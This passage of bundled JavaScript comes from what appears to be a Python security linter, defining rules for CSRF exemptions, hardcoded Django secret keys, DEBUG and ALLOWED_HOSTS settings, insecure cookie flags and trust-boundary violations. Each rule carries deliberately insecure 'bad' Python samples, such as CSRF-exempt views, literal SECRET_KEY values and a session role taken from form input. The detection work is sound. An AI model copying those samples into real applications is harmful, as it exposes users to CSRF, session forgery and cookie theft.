  }
});

// dist/rules/other/syntax-error.js
var syntax_error_default;
var init_syntax_error = __esm({
  "dist/rules/other/syntax-error.js"() {
    "use strict";
    init_types();
    syntax_error_default = defineRule({
      id: "syntax-error",
      aliases: [],
      category: "other",
      cwe: 1164,
      severity: "high",
      confidence: "high",
      cost: "fast",
      message: "file does not parse",
      fix: "Fix the syntax error (run `python -m py_compile FILE`), or turn this rule down in the config for files that are deliberately invalid.",
      docs: {
        why: "A reviewer that cannot parse a file cannot vouch for it. Peers skip such files and exit 0; this tool reports them and still reviews the parts of the file that do parse.",
        bad: ["def broken(:\n    eval(x)\n"],
        good: ["def fine(x):\n    return x\n"],
        references: []
      },
      create: () => ({})
    });
  }
});

// dist/rules/csrf/csrf-exempt.js
function exemption(node, module2) {
  const name = module2.qualifiedName(node);
  if (!name)
    return void 0;
  if (name === DJANGO_EXEMPT)
    return { framework: "Django", confidence: "high" };
  if (FLASK_WTF_EXEMPT.has(name))
    return { framework: "Flask-WTF", confidence: "high" };
  if (/(^|\.)csrf\.exempt$/.test(name) && !name.startsWith("django.")) {
    return { framework: "Flask-WTF", confidence: "medium" };
  }
  return void 0;
}
var DJANGO_EXEMPT, FLASK_WTF_EXEMPT, METHOD_DECORATOR, csrf_exempt_default;
var init_csrf_exempt = __esm({
  "dist/rules/csrf/csrf-exempt.js"() {
    "use strict";
    init_types();
    init_name_triggers();
    init_arguments();
    DJANGO_EXEMPT = "django.views.decorators.csrf.csrf_exempt";
    FLASK_WTF_EXEMPT = /* @__PURE__ */ new Set([
      "flask_wtf.csrf.CSRFProtect().exempt",
      "flask_wtf.CSRFProtect().exempt",
      "flask_wtf.csrf.CsrfProtect().exempt",
      "flask_wtf.CsrfProtect().exempt"
    ]);
    METHOD_DECORATOR = "django.utils.decorators.method_decorator";
    csrf_exempt_default = defineRule({
      id: "csrf-exempt",
      aliases: [],
      category: "csrf",
      cwe: 352,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "view exempted from CSRF protection: any site the user visits can submit this request with their cookies",
      fix: "Remove the exemption and send the CSRF token with the request; for machine-to-machine endpoints (webhooks), authenticate each request another way (signature header, token) and record that reason in a suppression comment.",
      // Every exemption's resolved name ends in one of them (Django's csrf_exempt, Flask-WTF's `.exempt`).
      triggers: ["csrf_exempt", "exempt"],
      // A called exemption resolves to a name ending in csrf_exempt or exempt, or is an argument of method_decorator
      // (a bare `@csrf_exempt` is the decorator handler's, not filtered).
      callees: ["csrf_exempt", "exempt", lastName(METHOD_DECORATOR)],
      docs: {
        why: "CSRF protection is what stops another web site from making the logged-in user's browser submit a form or call an API on this site. csrf_exempt switches it off for one view. Webhooks and token-authenticated APIs legitimately do this, so the finding is medium severity (reported, not blocking): confirm the view authenticates requests without cookies, then suppress with a reason.",
        bad: [
          "from django.views.decorators.csrf import csrf_exempt\n@csrf_exempt\ndef transfer(request):\n    pass\n",
          'from django.utils.decorators import method_decorator\nfrom django.views.decorators.csrf import csrf_exempt\n@method_decorator(csrf_exempt, name="dispatch")\nclass Transfer(View):\n    pass\n',
          'from django.urls import path\nfrom django.views.decorators.csrf import csrf_exempt\nurlpatterns = [path("t/", csrf_exempt(transfer))]\n',
          'from flask_wtf.csrf import CSRFProtect\ncsrf = CSRFProtect(app)\n@csrf.exempt\n@app.route("/transfer", methods=["POST"])\ndef transfer():\n    pass\n'
        ],
        good: [
          "from django.views.decorators.csrf import csrf_protect\n@csrf_protect\ndef transfer(request):\n    pass\n",
          "def csrf_exempt(view):\n    return view\n@csrf_exempt\ndef local(request):\n    pass\n"
        ],
        references: ["https://docs.djangoproject.com/en/stable/ref/csrf/", "https://flask-wtf.readthedocs.io/en/stable/csrf/", "https://cwe.mitre.org/data/definitions/352.html"]
      },
      create(context) {
        const report = (node, found) => {
          context.report({ node, confidence: found.confidence, message: `view exempted from ${found.framework} CSRF protection: any site the user visits can submit this request with their cookies` });
        };
        return {
          decorator(node) {
            const expression = node.firstNamedChild;
            if (!expression || expression.type !== "identifier" && expression.type !== "attribute")
              return;
            const found = exemption(expression, context.module);
            if (found)
              report(node, found);
          },
          call(node) {
            const callee = node.childForFieldName("function");
            if (!callee)
              return;
            const found = exemption(callee, context.module);
            if (found) {
              report(node, found);
              return;
            }
            if (context.module.callName(node) !== METHOD_DECORATOR)
              return;
            const decorators = argument(node, "decorator", 0);
            const candidates = decorators?.type === "list" || decorators?.type === "tuple" ? decorators.namedChildren : decorators ? [decorators] : [];
            const inner = candidates.map((candidate) => exemption(candidate, context.module)).find(Boolean);
            if (inner)
              report(node, inner);
          }
        };
      }
    });
  }
});

// dist/rules/csrf/flask-wtf-csrf-disabled.js
function isTestingConfiguration(node, module2) {
  const owner = enclosingClass(node);
  if (owner) {
    if (/test/i.test(owner.childForFieldName("name")?.text ?? ""))
      return true;
    const body = owner.childForFieldName("body");
    return !!body?.namedChildren.some((statement) => {
      const assignment = statement.firstNamedChild;
      return assignment?.type === "assignment" && assignment.childForFieldName("left")?.text === "TESTING" && module2.constant(assignment.childForFieldName("right")) === true;
    });
  }
  const mapping = node.parent;
  if (mapping?.type === "dictionary" || mapping?.type === "argument_list") {
    return mapping.namedChildren.some((entry) => {
      const key = entry.type === "pair" ? entry.childForFieldName("key") : entry.type === "keyword_argument" ? entry.childForFieldName("name") : null;
      const value = entry.childForFieldName("value");
      const name = key?.type === "identifier" ? key.text : key ? module2.constant(key) : void 0;
      return name === "TESTING" && !!value && module2.constant(value) === true;
    });
  }
  return false;
}
var SETTING, flask_wtf_csrf_disabled_default;
var init_flask_wtf_csrf_disabled = __esm({
  "dist/rules/csrf/flask-wtf-csrf-disabled.js"() {
    "use strict";
    init_types();
    init_syntax();
    SETTING = "WTF_CSRF_ENABLED";
    flask_wtf_csrf_disabled_default = defineRule({
      id: "flask-wtf-csrf-disabled",
      aliases: [],
      category: "csrf",
      cwe: 352,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "WTF_CSRF_ENABLED = False turns off Flask-WTF CSRF protection for every form",
      fix: "Leave WTF_CSRF_ENABLED at its default (True) outside the testing configuration; exempt single webhook views with `@csrf.exempt` instead.",
      // Every form of the setting spells its name. A pattern, not a word: a subscript or key only has to contain it
      // (`config[KEY_WTF_CSRF_ENABLED]` with the constant built elsewhere in the file).
      triggers: [/WTF_CSRF_ENABLED/],
      docs: {
        why: "Flask-WTF checks a CSRF token on every form (and with CSRFProtect, every POST). Setting WTF_CSRF_ENABLED to False turns the check off application-wide, so any other site can make a logged-in user's browser submit forms. Testing configurations (a class named *Test*, or one that sets TESTING = True) are not reported: that is where Flask-WTF's documentation says to turn it off.",
        bad: [
          'app.config["WTF_CSRF_ENABLED"] = False\n',
          "class ProductionConfig:\n    WTF_CSRF_ENABLED = False\n",
          "app.config.update(SECRET_KEY=key, WTF_CSRF_ENABLED=False)\n"
        ],
        good: [
          "class TestingConfig:\n    TESTING = True\n    WTF_CSRF_ENABLED = False\n",
          'app.config["WTF_CSRF_ENABLED"] = True\n',
          "app.config.update(TESTING=True, WTF_CSRF_ENABLED=False)\n"
        ],
        references: ["https://flask-wtf.readthedocs.io/en/stable/config/", "https://flask-wtf.readthedocs.io/en/stable/csrf/", "https://cwe.mitre.org/data/definitions/352.html"]
      },
      create(context) {
        const isOff = (value) => {
          const constant = value ? context.module.constant(value) : void 0;
          return constant === false || constant === 0;
        };
        const consider = (at, value) => {
          if (isOff(value) && !isTestingConfiguration(at, context.module))
            context.report({ node: at });
        };
        return {
          assignment(node) {
            const left = node.childForFieldName("left");
            if (!left)
              return;
            if (!left.text.includes(SETTING))
              return;
            const named = left.type === "identifier" ? left.text : left.type === "subscript" ? context.module.constant(left.childForFieldName("subscript") ?? left) : void 0;
            if (named === SETTING)
              consider(node, node.childForFieldName("right"));
          },
          keyword_argument(node) {
            if (node.childForFieldName("name")?.text === SETTING)
              consider(node, node.childForFieldName("value"));
          },
          pair(node) {
            const key = node.childForFieldName("key");
            if (key?.text.includes(SETTING) && context.module.constant(key) === SETTING)
              consider(node, node.childForFieldName("value"));
          }
        };
      }
    });
  }
});

// dist/rules/hardcoded-secret/django-hardcoded-secret-key.js
function literalFallback(value, module2) {
  if (value.type !== "call")
    return void 0;
  const name = module2.callName(value) ?? "";
  const fallback = ENVIRONMENT_GETTERS.has(name) ? argument(value, "default", 1) : keywordArgument(value, "default");
  if (!fallback)
    return void 0;
  const text = module2.constant(fallback);
  return typeof text === "string" && text.length > 0 ? fallback : void 0;
}
var ENVIRONMENT_GETTERS, SETTING2, django_hardcoded_secret_key_default;
var init_django_hardcoded_secret_key = __esm({
  "dist/rules/hardcoded-secret/django-hardcoded-secret-key.js"() {
    "use strict";
    init_types();
    init_arguments();
    init_django_settings();
    init_redaction();
    init_password_names();
    ENVIRONMENT_GETTERS = /* @__PURE__ */ new Set(["os.environ.get", "os.getenv", "os.environ.setdefault"]);
    SETTING2 = /* @__PURE__ */ new Set(["SECRET_KEY"]);
    django_hardcoded_secret_key_default = defineRule({
      id: "django-hardcoded-secret-key",
      aliases: [],
      category: "hardcoded-secret",
      cwe: 798,
      severity: "high",
      confidence: "high",
      cost: "fast",
      message: "SECRET_KEY is a literal in the settings module: everyone with the repository can sign sessions, password-reset tokens and messages",
      fix: 'Read the key from the environment or a secrets store without a fallback (`SECRET_KEY = os.environ["DJANGO_SECRET_KEY"]`), and rotate the committed key.',
      triggers: [...SETTING2],
      docs: {
        why: 'Django signs sessions (with signed-cookie sessions, their whole content), password-reset links, messages and anything using django.core.signing with SECRET_KEY. A key in version control is known to everyone who can read the repository, its forks and its history. A literal fallback (`os.environ.get("SECRET_KEY", "...")`) is the same key whenever a deployment forgets the variable.',
        bad: [
          'INSTALLED_APPS = []\nSECRET_KEY = "django-insecure-8x#w2q!v3k$9m@z0p1r7t5y6u4i2o8a"\n',
          'import os\nROOT_URLCONF = "site.urls"\nSECRET_KEY = os.environ.get("SECRET_KEY", "k3y-that-ships-in-the-image-0987")\n'
        ],
        good: [
          'import os\nINSTALLED_APPS = []\nSECRET_KEY = os.environ["DJANGO_SECRET_KEY"]\n',
          'from decouple import config\nINSTALLED_APPS = []\nSECRET_KEY = config("SECRET_KEY")\n',
          'INSTALLED_APPS = []\nSECRET_KEY = "change-me"  # placeholder: reported at low severity only\n'
        ],
        references: ["https://docs.djangoproject.com/en/stable/ref/settings/#secret-key", "https://docs.djangoproject.com/en/stable/howto/deployment/checklist/#secret-key", "https://cwe.mitre.org/data/definitions/798.html"]
      },
      create(context) {
        return {
          assignment(node) {
            const setting = moduleLevelSetting(node, SETTING2);
            if (!setting)
              return;
            const literal = context.module.constant(setting.value);
            if (typeof literal === "string") {
              if (literal.length === 0 || !isDjangoSettingsModule(context.module))
                return;
              if (announcesStandIn(literal) && !literal.startsWith("django-insecure-")) {
                context.report({ node, severity: "low", message: "SECRET_KEY is a placeholder literal: make sure every deployment overrides it", credential: credentialIn(setting.value, "name") });
              } else {
                context.report({ node, credential: credentialIn(setting.value, "name") });
              }
              return;
            }
            const fallback = literalFallback(setting.value, context.module);
            if (fallback && isDjangoSettingsModule(context.module)) {
              context.report({ node: fallback, severity: announcesStandIn(context.module.constant(fallback)) ? "low" : "medium", message: "SECRET_KEY falls back to a literal when the environment does not set it: a deployment that forgets the variable signs with a key from the repository", credential: credentialIn(fallback, "name") });
            }
          }
        };
      }
    });
  }
});

// dist/rules/insecure-config/django-allowed-hosts-wildcard.js
var SETTING3, django_allowed_hosts_wildcard_default;
var init_django_allowed_hosts_wildcard = __esm({
  "dist/rules/insecure-config/django-allowed-hosts-wildcard.js"() {
    "use strict";
    init_types();
    init_syntax();
    init_django_settings();
    SETTING3 = /* @__PURE__ */ new Set(["ALLOWED_HOSTS"]);
    django_allowed_hosts_wildcard_default = defineRule({
      id: "django-allowed-hosts-wildcard",
      aliases: [],
      category: "insecure-config",
      cwe: 183,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "ALLOWED_HOSTS contains '*': Django accepts any Host header",
      fix: 'List the host names the site serves (`ALLOWED_HOSTS = ["example.com", ".example.com"]`), read from the environment per deployment.',
      triggers: [...SETTING3],
      docs: {
        why: "Django builds absolute URLs (password-reset links, redirects, cache keys) from the Host header. ALLOWED_HOSTS is the check that rejects forged Host headers; '*' turns it off, enabling host-header poisoning of reset e-mails and caches.",
        bad: [
          'INSTALLED_APPS = []\nDATABASES = {}\nALLOWED_HOSTS = ["*"]\n',
          'from .base import *\nALLOWED_HOSTS = ["example.com", "*"]\n'
        ],
        good: [
          'INSTALLED_APPS = []\nDATABASES = {}\nALLOWED_HOSTS = ["example.com", ".example.com"]\n',
          'class ProxyConfig:  # a class attribute, not Django settings\n    ALLOWED_HOSTS = ["*"]\n'
        ],
        references: ["https://docs.djangoproject.com/en/stable/ref/settings/#allowed-hosts", "https://cwe.mitre.org/data/definitions/183.html"]
      },
      create(context) {
        const hasWildcard = (value) => {
          const constant = context.module.constant(value);
          return constant === "*" || Array.isArray(constant) && constant.includes("*") || (value.type === "list" || value.type === "tuple") && value.namedChildren.some((item) => context.module.constant(item) === "*");
        };
        return {
          assignment(node) {
            const setting = moduleLevelSetting(node, SETTING3);
            if (!setting || !hasWildcard(setting.value))
              return;
            if (isDjangoSettingsModule(context.module))
              context.report({ node });
          },
          augmented_assignment(node) {
            const left = node.childForFieldName("left");
            const right = node.childForFieldName("right");
            if (left?.text !== "ALLOWED_HOSTS" || !right || !hasWildcard(right))
              return;
            if (enclosingFunction(node) || enclosingClass(node))
              return;
            if (isDjangoSettingsModule(context.module))
              context.report({ node });
          }
        };
      }
    });
  }
});

// dist/rules/insecure-config/django-debug-true.js
var SETTING4, django_debug_true_default;
var init_django_debug_true = __esm({
  "dist/rules/insecure-config/django-debug-true.js"() {
    "use strict";
    init_types();
    init_arguments();
    init_django_settings();
    SETTING4 = /* @__PURE__ */ new Set(["DEBUG"]);
    django_debug_true_default = defineRule({
      id: "django-debug-true",
      aliases: [],
      category: "insecure-config",
      cwe: 489,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "DEBUG = True in a Django settings module: error pages show settings, SQL and source to anyone",
      fix: 'Read DEBUG from the environment with a False default (`DEBUG = os.environ.get("DJANGO_DEBUG") == "1"`), and keep DEBUG = True only in a local settings file that is never deployed.',
      triggers: [...SETTING4],
      docs: {
        why: "With DEBUG on, every unhandled error renders a page with the stack trace, local variables, the request and most settings; Django also keeps every SQL query in memory. Settings files with DEBUG = True end up deployed. Reported at medium severity (not blocking by default) because development settings legitimately turn it on.",
        bad: [
          'INSTALLED_APPS = ["django.contrib.admin"]\nROOT_URLCONF = "site.urls"\nDEBUG = True\n',
          "from .base import *\nDEBUG = True\n",
          'import environ\nenv = environ.Env()\nALLOWED_HOSTS = ["example.com"]\nDEBUG = env.bool("DEBUG", default=True)\n'
        ],
        good: [
          'import os\nINSTALLED_APPS = ["django.contrib.admin"]\nROOT_URLCONF = "site.urls"\nDEBUG = os.environ.get("DJANGO_DEBUG") == "1"\n',
          "DEBUG = True  # not a Django settings module: no Django settings around it\nVERBOSE = 2\n"
        ],
        references: ["https://docs.djangoproject.com/en/stable/ref/settings/#debug", "https://docs.djangoproject.com/en/stable/howto/deployment/checklist/", "https://cwe.mitre.org/data/definitions/489.html"]
      },
      create(context) {
        return {
          assignment(node) {
            const setting = moduleLevelSetting(node, SETTING4);
            if (!setting)
              return;
            const { value } = setting;
            if (context.module.constant(value) === true || value.type === "integer" && context.module.constant(value) === 1) {
              if (isDjangoSettingsModule(context.module))
                context.report({ node });
              return;
            }
            const fallback = value.type === "call" ? keywordArgument(value, "default") : void 0;
            if (fallback && context.module.constant(fallback) === true && isDjangoSettingsModule(context.module)) {
              context.report({ node, confidence: "medium", message: "DEBUG defaults to True when the environment does not set it: a deployment that forgets the variable serves debug pages" });
            }
          }
        };
      }
    });
  }
});

// dist/rules/insecure-config/django-insecure-cookie.js
var COOKIE_FLAGS, SETTINGS, TRANSPORT_FLAGS, django_insecure_cookie_default;
var init_django_insecure_cookie = __esm({
  "dist/rules/insecure-config/django-insecure-cookie.js"() {
    "use strict";
    init_types();
    init_django_settings();
    COOKIE_FLAGS = {
      SESSION_COOKIE_SECURE: "the session cookie is sent over plain HTTP, where anyone on the network can take over the session",
      CSRF_COOKIE_SECURE: "the CSRF cookie is sent over plain HTTP",
      SESSION_COOKIE_HTTPONLY: "JavaScript can read the session cookie, so any XSS steals sessions"
    };
    SETTINGS = new Set(Object.keys(COOKIE_FLAGS));
    TRANSPORT_FLAGS = /* @__PURE__ */ new Set(["SESSION_COOKIE_SECURE", "CSRF_COOKIE_SECURE"]);
    django_insecure_cookie_default = defineRule({
      id: "django-insecure-cookie",
      aliases: [],
      category: "insecure-config",
      cwe: 614,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "a Django cookie protection is switched off in the settings module",
      fix: "Set SESSION_COOKIE_SECURE = True and CSRF_COOKIE_SECURE = True for HTTPS deployments, and leave SESSION_COOKIE_HTTPONLY at its default (True).",
      triggers: [...SETTINGS],
      docs: {
        why: "SESSION_COOKIE_SECURE and CSRF_COOKIE_SECURE keep the cookies off plain-HTTP requests, where a network attacker reads them; SESSION_COOKIE_HTTPONLY keeps the session cookie away from page scripts, so an XSS bug cannot steal sessions. Writing False explicitly in settings is a decision to ship without them: for the two Secure flags it is high severity and blocks, except in development settings (the same module sets DEBUG = True, for plain-HTTP runserver), which stay medium. SESSION_COOKIE_HTTPONLY = False is medium. Django's own defaults module (django/conf/global_settings.py) is shown only by --profile audit.",
        bad: [
          "INSTALLED_APPS = []\nMIDDLEWARE = []\nSESSION_COOKIE_SECURE = False\n",
          "INSTALLED_APPS = []\nMIDDLEWARE = []\nSESSION_COOKIE_HTTPONLY = False\n"
        ],
        good: [
          "INSTALLED_APPS = []\nMIDDLEWARE = []\nSESSION_COOKIE_SECURE = True\nCSRF_COOKIE_SECURE = True\n",
          "INSTALLED_APPS = []\nMIDDLEWARE = []\nCSRF_COOKIE_HTTPONLY = False  # Django default; the CSRF token is not a secret from the page\n"
        ],
        references: ["https://docs.djangoproject.com/en/stable/ref/settings/#session-cookie-secure", "https://docs.djangoproject.com/en/stable/ref/settings/#session-cookie-httponly", "https://cwe.mitre.org/data/definitions/614.html"]
      },
      create(context) {
        return {
          assignment(node) {
            const setting = moduleLevelSetting(node, SETTINGS);
            if (!setting)
              return;
            const value = context.module.constant(setting.value);
            if (value !== false && value !== 0)
              return;
            const { module: module2 } = context;
            if (!isDjangoSettingsModule(module2))
              return;
            const message = `${setting.name} = False: ${COOKIE_FLAGS[setting.name]}`;
            if (isFrameworkDefaultSettings(module2)) {
              context.report({ node, auditOnly: true, message: `${message} (Django's own defaults module: projects override it)` });
            } else if (!TRANSPORT_FLAGS.has(setting.name)) {
              context.report({ node, message });
            } else if (moduleSettingConstant(module2, "DEBUG") === true) {
              context.report({ node, message: `${message} (not blocking: development settings, DEBUG = True)` });
            } else {
              context.report({ node, severity: "high", message });
            }
          }
        };
      }
    });
  }
});

// dist/rules/insecure-config/support/cookie-names.js
var AUTH_COOKIE, CSRF_COOKIE, COOKIE_SETTERS, PREFERENCE_COOKIE;
var init_cookie_names = __esm({
  "dist/rules/insecure-config/support/cookie-names.js"() {
    "use strict";
    AUTH_COOKIE = /sess|sid$|^sid|auth|token|jwt|remember|login|logged|user_?id|access|refresh|identity|credential/i;
    CSRF_COOKIE = /csrf|xsrf/i;
    COOKIE_SETTERS = ["set_cookie", "set_signed_cookie", "set_secure_cookie"];
    PREFERENCE_COOKIE = /^(?:theme|color_?scheme|dark_?mode|lang(?:uage)?|django_language|locale|tz|time_?zone|currency|country|region|consent|cookie_?consent|cookies_?accepted|layout|view_?mode|sidebar\w*|font_?size|banner\w*|dismissed\w*|seen_\w+|tour_\w+)$/i;
  }
});

// dist/rules/insecure-config/insecure-cookie-flags.js
var FLAG_POSITIONS, FLAG_RISKS, insecure_cookie_flags_default;
var init_insecure_cookie_flags = __esm({
  "dist/rules/insecure-config/insecure-cookie-flags.js"() {
    "use strict";
    init_types();
    init_arguments();
    init_cookie_names();
    FLAG_POSITIONS = { secure: 6, httponly: 7, samesite: 8 };
    FLAG_RISKS = {
      secure: "sent over plain HTTP too",
      httponly: "readable by page scripts (XSS steals it)",
      samesite: "sent on cross-site requests"
    };
    insecure_cookie_flags_default = defineRule({
      id: "insecure-cookie-flags",
      aliases: [],
      category: "insecure-config",
      cwe: 614,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "cookie set without the secure/httponly/samesite attributes",
      fix: 'Pass secure=True, httponly=True and samesite="Lax" (or "Strict") to set_cookie().',
      triggers: [...COOKIE_SETTERS],
      callees: COOKIE_SETTERS,
      docs: {
        why: "Without `secure` the browser also sends the cookie over plain HTTP, where a network attacker reads it; without `httponly` any script on the page (an XSS bug, a compromised third-party script) can read it; without `samesite` it rides along on cross-site requests (CSRF). For a session or login cookie (names like session, sid, auth, token, jwt, remember_me) a missing `secure` or `httponly` hands the account over: high severity, medium confidence (the name is the evidence), so it blocks. Other cookies are medium (a display preference or consent cookie named as such, like `theme`, `lang` or `cookie_consent`, only in `--profile audit`), and a missing `samesite` alone is low: browsers default to Lax. A CSRF cookie is meant to be read by the page, so only `secure` counts for it. Flags passed from settings (`secure=settings.SESSION_COOKIE_SECURE`) or through `**kwargs` count as set.",
        bad: [
          'from flask import make_response\ndef login_view(user):\n    response = make_response("ok")\n    response.set_cookie("session_id", user.session_token)\n    return response\n',
          'def remember_cart(response, cart_id):\n    response.set_cookie("cart", cart_id, max_age=3600)\n    return response\n',
          'def remember(response, token):\n    response.set_cookie("remember_token", token, secure=False, httponly=True, samesite="Lax")\n'
        ],
        good: [
          'from flask import make_response\ndef login_view(user):\n    response = make_response("ok")\n    response.set_cookie("session_id", user.session_token, secure=True, httponly=True, samesite="Lax")\n    return response\n',
          'from django.conf import settings\ndef store(response, value):\n    response.set_cookie("prefs", value, secure=settings.SESSION_COOKIE_SECURE, httponly=True, samesite="Strict")\n',
          'def set_theme(request, response):\n    response.set_cookie("theme", request.GET.get("theme", "light"), max_age=3600)  # a preference: audit profile only\n    return response\n',
          "from http.cookiejar import CookieJar\ndef remember(jar: CookieJar, cookie):\n    jar.set_cookie(cookie)\n",
          'def finish(response, options):\n    response.set_cookie("sid", "x", **options)\n'
        ],
        references: ["https://owasp.org/www-community/controls/SecureCookieAttribute", "https://owasp.org/www-community/HttpOnly", "https://flask.palletsprojects.com/en/stable/security/#set-cookie-options", "https://cwe.mitre.org/data/definitions/614.html", "https://cwe.mitre.org/data/definitions/1004.html"]
      },
      create(context) {
        const { module: module2 } = context;
        const missing = (call, flag) => {
          const value = argument(call, flag, FLAG_POSITIONS[flag]);
          if (!value)
            return true;
          const constant = module2.constant(value);
          return constant === false || constant === null || constant === 0 || constant === "" || flag === "samesite" && typeof constant === "string" && constant.toLowerCase() === "none";
        };
        return {
          call(node) {
            const method = module2.calleeAttribute(node);
            if (!method || !COOKIE_SETTERS.includes(method) || node.childForFieldName("function")?.type !== "attribute")
              return;
            const args = argumentList(node);
            const name = argument(node, "key", 0) ?? argument(node, "name", 0);
            if (args.length < 2 || !name || hasKeywordSplat(node) || positionalArguments(node).length > 6)
              return;
            const value = argument(node, "value", 1);
            const maxAge = argument(node, "max_age", 2);
            const expires = argument(node, "expires", 3);
            if (!value || module2.constant(value) === "" || maxAge && module2.constant(maxAge) === 0 || expires && module2.constant(expires) === 0)
              return;
            const cookieName = module2.constant(name);
            const label = typeof cookieName === "string" ? cookieName : name.text;
            const isCsrf = CSRF_COOKIE.test(label);
            const absent = Object.keys(FLAG_POSITIONS).filter((flag) => missing(node, flag) && !(isCsrf && flag === "httponly"));
            if (absent.length === 0)
              return;
            const serious = absent.filter((flag) => flag !== "samesite");
            const auth = !isCsrf && AUTH_COOKIE.test(label);
            let severity = serious.length === 0 ? "low" : "medium";
            let confidence = "high";
            if (serious.length > 0 && auth) {
              severity = "high";
              confidence = "medium";
            }
            const risks = absent.map((flag) => `${flag} (${FLAG_RISKS[flag]})`).join(", ");
            const kind = auth ? "session/login cookie" : "cookie";
            const auditOnly = !auth && typeof cookieName === "string" && PREFERENCE_COOKIE.test(cookieName);
            context.report({ node, severity, confidence, auditOnly, message: `${kind} '${label}' set without ${risks}` });
          }
        };
      }
    });
  }
});

// dist/rules/insecure-config/trust-boundary-violation.js
function isSession(node, module2) {
  if (!node)
    return false;
  if (node.type === "identifier")
    return (node.text === "session" || SESSION_PROXIES.has(module2.imports.aliases.get(node.text) ?? "")) && SESSION_PROXIES.has(module2.qualifiedName(node) ?? "");
  if (node.type !== "attribute" || node.childForFieldName("attribute")?.text !== "session")
    return false;
  if (SESSION_PROXIES.has(module2.qualifiedName(node) ?? ""))
    return true;
  const owner = node.childForFieldName("object");
  return !!owner && isRequestObject(owner, module2);
}
function checkedBefore(value, module2) {
  for (let child = value, node = value.parent; node && node.type !== "function_definition" && node.type !== "module"; child = node, node = node.parent) {
    if (node.type !== "if_statement" && node.type !== "elif_clause" || node.childForFieldName("consequence")?.id !== child.id)
      continue;
    const condition = node.childForFieldName("condition");
    const validated = condition && [condition, ...condition.descendantsOfType("call")].some((call) => call.type === "call" && VALIDATOR_NAME.test(module2.calleeAttribute(call) ?? "") && (call.childForFieldName("arguments")?.namedChildren ?? []).some((argument2) => argument2.text === value.text));
    if (validated)
      return true;
  }
  return false;
}
function storedValue2(value, sink, what, at, module2) {
  if (checkedBefore(value, module2))
    return void 0;
  return {
    value,
    at,
    label: sink.type === "call" ? void 0 : sink.text,
    describe: () => `request data stored ${what} without validation`,
    // A parameter of a function that merely looks like a view (`login(request, user, backend)`) is not request data.
    refine: (trace) => trace.origin === "view-parameter" ? void 0 : trace
  };
}
function sessionStore(node, module2) {
  const target = node.childForFieldName("left");
  const value = node.childForFieldName("right");
  if (target?.type !== "subscript" || !value || !isSession(target.childForFieldName("value"), module2))
    return void 0;
  return storedValue2(value, target, "in the session", node, module2);
}
function cookieStore(node, module2) {
  const method = module2.calleeAttribute(node);
  if (!method || !SETTERS.has(method) || node.childForFieldName("function")?.type !== "attribute")
    return void 0;
  const value = argument(node, "value", 1);
  return value ? storedValue2(value, node, "in a cookie", node, module2) : void 0;
}
var SESSION_PROXIES, SETTERS, VALIDATOR_NAME, LEVELS, trust_boundary_violation_default;
var init_trust_boundary_violation = __esm({
  "dist/rules/insecure-config/trust-boundary-violation.js"() {
    "use strict";
    init_taint_rule();
    init_arguments();
    init_cookie_names();
    init_taint();
    SESSION_PROXIES = /* @__PURE__ */ new Set(["flask.session", "quart.session"]);
    SETTERS = new Set(COOKIE_SETTERS);
    VALIDATOR_NAME = /valid|check|verify|allowed|permitted|authenticat|login/i;
    LEVELS = levelTable({
      request: { severity: "medium", confidence: "high" }
    });
    trust_boundary_violation_default = taintRule({
      id: "trust-boundary-violation",
      aliases: [],
      category: "insecure-config",
      cwe: 501,
      severity: "medium",
      confidence: "high",
      cost: "deep",
      message: "request data stored in the session or a cookie without validation",
      fix: "Validate the value first (an allow-list, int(), a form or serializer) and store only what the server decided; keep authorisation state (roles, user ids, prices) server-side.",
      triggers: ["session", ...COOKIE_SETTERS],
      // The call handler looks at cookie setters only; the session is written by assignment.
      callees: COOKIE_SETTERS,
      docs: {
        why: "The session is where the server keeps what it has decided (who is logged in, their role, the basket total); code that later reads it trusts it. Copying request data into it unchecked lets the client write into that trusted store: a `role`, `user_id` or `is_admin` taken from a form becomes the truth for every later request. Cookies set from request data reflect attacker-chosen content back (header and cookie injection, session fixation). Medium severity: harm depends on what reads the value later. Values that passed through int(), an allow-list check or another sanitiser are not reported, nor a value passed to a checking function (`valid_login(...)`, `check_for_language(...)`) in an enclosing `if` condition.",
        bad: [
          'from flask import request, session\n@app.route("/login", methods=["POST"])\ndef login():\n    session["role"] = request.form["role"]\n    return "ok"\n',
          'def set_language(request):\n    request.session["user_id"] = request.POST.get("user_id")\n',
          'from flask import request, make_response\n@app.route("/track")\ndef track():\n    response = make_response("ok")\n    response.set_cookie("ref", request.args.get("ref"), secure=True, httponly=True, samesite="Lax")\n    return response\n'
        ],
        good: [
          'from flask import request, session\n@app.route("/page")\ndef page():\n    session["page"] = int(request.args["page"])\n    return "ok"\n',
          'def login(request, user):\n    request.session["user_id"] = user.pk\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/501.html", "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/06-Session_Management_Testing/"]
      },
      sinkClass: void 0,
      levels: LEVELS,
      match: { assignment: sessionStore, call: cookieStore }
    });
  }
});

// dist/rules/insecure-config/flask-insecure-cookie-config.js
var COOKIE_FLAGS2, CONFIG_METHODS, LOCAL_CONFIG, flask_insecure_cookie_config_default;
var init_flask_insecure_cookie_config = __esm({
  "dist/rules/insecure-config/flask-insecure-cookie-config.js"() {
    "use strict";
    init_types();
    init_syntax();
    init_django_settings();
    COOKIE_FLAGS2 = {
      SESSION_COOKIE_SECURE: "the session cookie is sent over plain HTTP, where anyone on the network can take over the session",
      SESSION_COOKIE_HTTPONLY: "page scripts can read the session cookie, so any XSS steals sessions",
      REMEMBER_COOKIE_SECURE: "the remember-me cookie is sent over plain HTTP",
      REMEMBER_COOKIE_HTTPONLY: "page scripts can read the remember-me cookie"
    };
    CONFIG_METHODS = /* @__PURE__ */ new Set(["update", "from_mapping"]);
    LOCAL_CONFIG = /dev|debug|test|local/i;
    flask_insecure_cookie_config_default = defineRule({
      id: "flask-insecure-cookie-config",
      aliases: [],
      category: "insecure-config",
      cwe: 614,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "a Flask cookie protection is switched off in the app config",
